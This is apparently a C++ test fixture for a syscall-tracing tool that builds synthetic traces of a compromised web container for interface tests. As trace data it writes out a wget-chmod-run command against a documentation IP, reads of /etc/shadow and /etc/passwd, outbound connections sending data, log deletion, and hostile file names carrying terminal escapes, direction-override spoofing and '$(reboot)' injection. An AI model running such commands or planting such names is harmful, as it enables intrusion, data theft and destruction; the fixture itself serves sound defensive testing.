// SPDX-License-Identifier: Apache-2.0
#include "tests/tui/stories.h"

#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "format/trace_writer.h"
#include "tests/replay/addresses.h"
#include "tests/replay/trace_builder.h"

namespace vestige {
namespace {

constexpr uint64_t kBootNs = 1'000'000'000;
// 2026-03-14 02:57:11 UTC.
constexpr int64_t kUnixNs = 1'773'457'031'000'000'000;
constexpr uint64_t kMs = 1'000'000;

TraceHeader header() {
  TraceHeader header;
  header.tool = "vestige-capture 0.1.0 (test)";
  header.host_name = "node-3";
  header.kernel_release = "6.18.5";
  header.machine = "x86_64";
  header.selection = "container web-1";
  header.container = {.id = "3f2a91c07d5e",
                      .name = "web-1",
                      .image = "shop/web:2.4",
                      .runtime = "docker"};
  header.start = {kBootNs, kUnixNs};
  header.cpu_count = 2;
  return header;
}

void connect_to(TraceBuilder& trace, uint32_t pid, int fd, const char* text,
                uint16_t port, int64_t ret) {
  const sockaddr_in to = in4(text, port);
  trace.call(pid, "socket", {AF_INET, SOCK_STREAM, 0}, fd);
  trace.call(pid, "connect", {uint64_t(fd), 1, sizeof to}, ret)
      .part(1, PartKind::kSockaddr, to);
}

ProcessState seen_before(std::string comm, std::string exe,
                         std::vector<std::string> argv, uint32_t parent,
                         uint32_t uid) {
  ProcessState state;
  state.task.parent_pid = parent;
  state.comm = std::move(comm);
  state.exe = std::move(exe);
  state.argv = std::move(argv);
  state.credentials.uid = state.credentials.euid = uid;
  return state;
}

void add_web_server(TraceBuilder& trace) {
  ProcessState shim = seen_before("containerd-shim", "/usr/bin/shim",
                                  {"containerd-shim", "-id", "3f2a"}, 0, 0);
  shim.is_selected = false;
  trace.process(700, shim);
  trace.process(811, seen_before("nginx", "/usr/sbin/nginx",
                                 {"nginx", "-g", "daemon off;"}, 700, 0));
  trace.process(823, seen_before("php-fpm", "/usr/sbin/php-fpm",
                                 {"php-fpm: pool www"}, 811, 33));
  for (int i = 0; i < 8; ++i) {
    const std::string page = "/var/www/html/page" + std::to_string(i) + ".php";
    trace.open(823, page, 9, O_RDONLY, page).read(823, 9, 2048).close(823, 9);
  }
}

constexpr uint64_t kStepNs = 53 * kMs;

// A pid whose start, as the builder tells it, is when the next event happens.
uint32_t next_pid(TraceBuilder& trace) {
  return uint32_t((kBootNs + (trace.events().size() + 1) * kStepNs) / kMs);
}

uint32_t start(TraceBuilder& trace, uint32_t parent,
               const std::vector<std::string>& argv,
               std::string_view exe = {}) {
  const uint32_t pid = next_pid(trace);
  trace.fork(parent, pid).exec(pid, argv, exe);
  return pid;
}

void add_break_in(TraceBuilder& trace) {
  const uint32_t shell = start(trace, 823,
                               {"/bin/sh", "-c",
                                "wget -qO /tmp/.x/up http://203.0.113.9/u; "
                                "chmod +x /tmp/.x/up; /tmp/.x/up"});
  trace.call(shell, "mkdir", {1, 0700}, 0).text(0, "/tmp/.x");
  const uint32_t wget =
      start(trace, shell,
            {"/usr/bin/wget", "-qO", "/tmp/.x/up", "http://203.0.113.9/u"});
  connect_to(trace, wget, 4, "203.0.113.9", 80, 0);
  trace.write(wget, 4, 131).read(wget, 4, 1848);
  trace.create(wget, "/tmp/.x/up", 5).write(wget, 5, 1717).close(wget, 5);
  trace.exit(wget);
  const uint32_t chmod =
      start(trace, shell, {"/bin/chmod", "+x", "/tmp/.x/up"});
  trace.call(chmod, "chmod", {1, 0755}, 0).text(0, "/tmp/.x/up");
  trace.exit(chmod);
  const uint32_t dropped = start(trace, shell, {"/tmp/.x/up"});
  trace.open(dropped, "/etc/shadow", -EACCES);
  trace.open(dropped, "/etc/passwd", 3, O_RDONLY, "/etc/passwd");
  trace.read(dropped, 3, 1204).close(dropped, 3);
  connect_to(trace, dropped, 3, "198.51.100.7", 4444, -ECONNREFUSED);
  connect_to(trace, dropped, 6, "198.51.100.7", 443, 0);
  trace.write(dropped, 6, 1204).read(dropped, 6, 16);
  trace.unlink(dropped, "/tmp/.x/up");
  trace.unlink(dropped, "/var/log/nginx/access.log");
  trace.exit(dropped, 0, SIGKILL).exit(shell, 137);
}

// A script is fetched with its bytes, made runnable and run; it looks up a
// name and talks back, in the clear.
void add_talk(TraceBuilder& trace) {
  const std::string request = "GET /u HTTP/1.1\r\nHost: evil.example\r\n\r\n";
  const std::string script = "#!/bin/sh\necho \x1b[2J owned\n";
  const std::string response = "HTTP/1.1 200 OK\r\n\r\n" + script;
  const std::string query(
      "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04"
      "evil\x07"
      "example\0\0\x01\0\x01",
      30);
  const auto send = [&](uint32_t pid, int fd, const std::string& bytes) {
    trace.write(pid, fd, int64_t(bytes.size())).payload(1, bytes, bytes.size());
  };
  const uint32_t wget = start(trace, 823, {"/usr/bin/wget", "evil.example/u"});
  const sockaddr_in to = in4("192.0.2.53", 53);
  trace.call(wget, "socket", {AF_INET, SOCK_DGRAM, 0}, 3);
  trace.call(wget, "connect", {3, 1, sizeof to}, 0)
      .part(1, PartKind::kSockaddr, to);
  send(wget, 3, query);
  connect_to(trace, wget, 4, "203.0.113.9", 80, 0);
  send(wget, 4, request);
  trace.read(wget, 4, int64_t(response.size()))
      .payload(1, response, response.size());
  trace.create(wget, "/tmp/u", 5);
  send(wget, 5, script);
  trace.close(wget, 5).close(wget, 4).exit(wget);
}

// Bytes that would steer, reorder or flood a terminal.
void add_deception(TraceBuilder& trace) {
  const std::string names[] = {
      "/tmp/\x1b[2J\x1b]0;owned\x07",
      "/tmp/evil\xe2\x80\xae"
      "cod.exe",
      "/tmp/line\nbreak\rand\ttab",
      "/tmp/\xff\xfe not text",
      "/tmp/e\xcc\x81"
      "t\xc3\xa9 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x92\x80",
      "/tmp/\xe2\x80\x8b\xe2\x81\xa6hidden",
      "/tmp/%s%n%x $(reboot) `reboot`",
      "/tmp/" + std::string(1 << 20, 'A') + "/tail",
  };
  for (const std::string& name : names) {
    trace.create(811, name, 7).close(811, 7);
  }
  std::string deep;
  for (int i = 0; i < 1500; ++i) deep += "/d";
  trace.create(811, deep, 7).close(811, 7);
  const uint32_t pid =
      start(trace, 811, {"\x1b[31mred", "a b", "", "it's", "\x07"});
  trace.exit(pid, 3);
}

void write(TraceBuilder& trace, const std::string& path,
           const std::vector<Loss>& losses, std::string_view boot) {
  TraceHeader own = header();
  own.boot_id = boot;
  auto writer = TraceWriter::create(path, own);
  ASSERT_TRUE(writer) << writer.error().message;
  for (Snapshot& snapshot : trace.snapshots()) {
    snapshot.time_ns = snapshot.end_ns = kBootNs;
    ASSERT_TRUE(writer->append(snapshot));
  }
  uint64_t time_ns = kBootNs;
  for (auto& stored : trace.events()) {
    stored.event.time_ns = time_ns += kStepNs;
    stored.event.parts = stored.parts;
    ASSERT_TRUE(writer->append(stored.event));
  }
  for (const Loss& loss : losses) writer->add_loss(loss);
  TraceEnd end;
  end.reason = EndReason::kInterrupted;
  end.end = {time_ns, kUnixNs + int64_t(time_ns - kBootNs)};
  const auto closed = writer->close(end);
  ASSERT_TRUE(closed) << closed.error().message;
}

}  // namespace

ScratchDirectory::ScratchDirectory() {
  std::string name = std::filesystem::temp_directory_path() / "vestige-XXXXXX";
  EXPECT_NE(mkdtemp(name.data()), nullptr);
  directory_ = name;
}

ScratchDirectory::~ScratchDirectory() {
  std::error_code ignored;
  std::filesystem::remove_all(directory_, ignored);
}

void write_story(std::string_view name, const std::string& path,
                 std::string_view boot) {
  TraceBuilder trace;
  std::vector<Loss> losses;
  if (name != "empty") add_web_server(trace);
  if (name == "break_in" || name == "losses") {
    add_break_in(trace);
  } else if (name == "hostile") {
    add_deception(trace);
  } else if (name == "talk") {
    add_talk(trace);
  } else {
    ASSERT_EQ(name, "empty");
  }
  if (name == "losses") {
    losses = {{.reason = LossReason::kRingFull,
               .count = 1234,
               .from_ns = kBootNs + 100 * kMs,
               .to_ns = kBootNs + 300 * kMs},
              {.reason = LossReason::kPartTruncated, .count = 7}};
  }
  write(trace, path, losses, boot);
}

}  // namespace vestige
